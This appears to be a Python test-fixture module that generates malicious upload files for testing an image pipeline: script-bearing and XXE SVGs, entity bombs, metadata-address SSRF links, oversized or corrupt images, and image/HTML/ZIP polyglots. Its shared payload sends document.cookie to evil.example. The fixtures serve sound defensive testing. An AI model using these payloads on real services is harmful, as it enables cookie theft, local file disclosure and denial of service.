"""Files as somebody who means harm brings them: pictures that lie about what they are, SVGs, polyglots, fonts."""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from functools import cache

from PIL import Image

from tests.photos import photo

PAYLOAD = b"<script>fetch('//evil.example/'+document.cookie)</script>"
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90">{}</svg>'
)
BOMB = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
SVGS: Mapping[str, str] = {
    "script": SVG.format("<script>alert(1)</script>"),
    "onload": SVG.replace("<svg ", '<svg onload="alert(1)" ').format("<rect/>"),
    "foreignObject": SVG.format(
        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script/></body></foreignObject>'
    ),
    "external entity": '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    + SVG.format("<text>&x;</text>"),
    "entity bomb": f'<!DOCTYPE s [<!ENTITY a0 "ha">{BOMB}]>' + SVG.format("<text>&a9;</text>"),
    "import": SVG.format('<style>@import url("http://169.254.169.254/a.css");</style>'),
    "href to a file": SVG.format('<image xlink:href="file:///etc/passwd" width="9" height="9"/>'),
    "href to a path": SVG.format('<image href="/etc/passwd" width="9" height="9"/>'),
    "href to the network": SVG.format('<image href="http://169.254.169.254/latest" width="9" height="9"/>'),
    "use": SVG.format('<use href="http://evil.example/a.svg#b"/>'),
    "comment first": "<!-- a -->\n" + SVG.format("<script/>"),
    "prefixed": '<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>1</x:script></x:svg>',
}


def svg_files() -> dict[str, bytes]:
    """Each SVG in the encodings that readers accept."""
    found = {}
    for name, text in SVGS.items():
        found[name] = text.encode()
        found[f"{name}, with a mark"] = b"\xef\xbb\xbf" + text.encode()
        found[f"{name}, UTF-16"] = text.encode("utf-16")
        found[f"{name}, UTF-16 without a mark"] = text.encode("utf-16-be")
        found[f"{name}, gzipped"] = gzip.compress(text.encode())
        found[f"{name}, after blanks"] = b"\n \t" + text.encode()
    return found


def png(width: int, height: int, body: bytes = b"", depth: int = 8, colour: int = 2) -> bytes:
    """A PNG that claims a size, with whatever for its pixels."""
    chunks = (
        (b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)),
        (b"IDAT", body),
        (b"IEND", b""),
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    )


def psd(width: int = 30_000, height: int = 30_000) -> bytes:
    """The header of a PSD, and the beginning of its pixels."""
    return b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, height, width, 8, 3) + struct.pack(">IIIH", 0, 0, 0, 1)


def encoded(kind: str, size: tuple[int, int] = (320, 240), **how: object) -> bytes:
    """A photo in another format."""
    file = io.BytesIO()
    with Image.open(io.BytesIO(photo(size=size))) as image:
        image.save(file, kind, **how)
    return file.getvalue()


@cache
def broken_pictures() -> Mapping[str, bytes]:
    """Pictures that no decoder should be given, or that none can finish."""
    whole = {kind: encoded(kind) for kind in ("PNG", "JPEG", "WEBP")}
    cut = {
        f"{kind}, cut off at {part:.0%}": data[: int(len(data) * part)]
        for kind, data in whole.items()
        for part in (0.1, 0.6)
    }
    jpeg = bytearray(whole["JPEG"])
    jpeg[len(jpeg) // 2 : len(jpeg) // 2 + 400] = b"\xff\xc4\x00\x03" * 100
    return cut | {
        "PSD of 40 bytes": psd()[:40],
        "PSD, bad RLE": psd(300, 300) + struct.pack(">900H", *[65535] * 900) + b"\x81" * 64,
        "PSD, cut off": psd(300, 300)[:30],
        "PNG that claims 30000 × 30000": png(30_000, 30_000),
        "PNG that claims nothing": png(0, 0),
        "PNG without pixels": png(400, 400),
        "JPEG, tables in its pixels": bytes(jpeg),
        "WebP that lies about its length": b"RIFF\xff\xff\xff\x7fWEBPVP8L\xff\xff\xff\x7f" + bytes(30),
        "GIF": encoded("GIF"),
        "TIFF": encoded("TIFF"),
        "BMP": encoded("BMP"),
        "HTML called .jpg": b"<!doctype html><html><body>" + PAYLOAD,
        "GIF that is a script": b"GIF89a/*" + bytes(6) + b"*/=1;alert(1)//",
        "PDF": b"%PDF-1.7\n1 0 obj\n<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
        "ZIP": archive(),
        "nothing": b"",
    }


def archive() -> bytes:
    """A ZIP with a page in it."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        made.writestr("evil.html", PAYLOAD)
    return file.getvalue()


@cache
def polyglots() -> Mapping[str, bytes]:
    """Whole pictures that are something else as well."""
    exif = Image.Exif()
    exif[0x010E] = PAYLOAD.decode()
    png_file, jpeg, webp = (encoded(kind) for kind in ("PNG", "JPEG", "WEBP"))
    text = struct.pack(">I", len(PAYLOAD) + 2) + b"tEXta\0" + PAYLOAD
    text += struct.pack(">I", zlib.crc32(text[4:]))
    chunk = b"EVIL" + struct.pack("<I", len(PAYLOAD)) + PAYLOAD + bytes(len(PAYLOAD) % 2)
    return {
        "PNG and ZIP": png_file + archive(),
        "PNG with a page in it": png_file[:33] + text + png_file[33:],
        "JPEG and ZIP": jpeg + archive(),
        "JPEG with a page for a comment": jpeg[:2]
        + b"\xff\xfe"
        + struct.pack(">H", len(PAYLOAD) + 2)
        + PAYLOAD
        + jpeg[2:],
        "JPEG with a page in its EXIF": encoded("JPEG", exif=exif),
        "WebP and a page": webp[:4] + struct.pack("<I", len(webp) - 8 + len(chunk)) + webp[8:] + chunk,
        "WebP and ZIP": webp + archive(),
    }
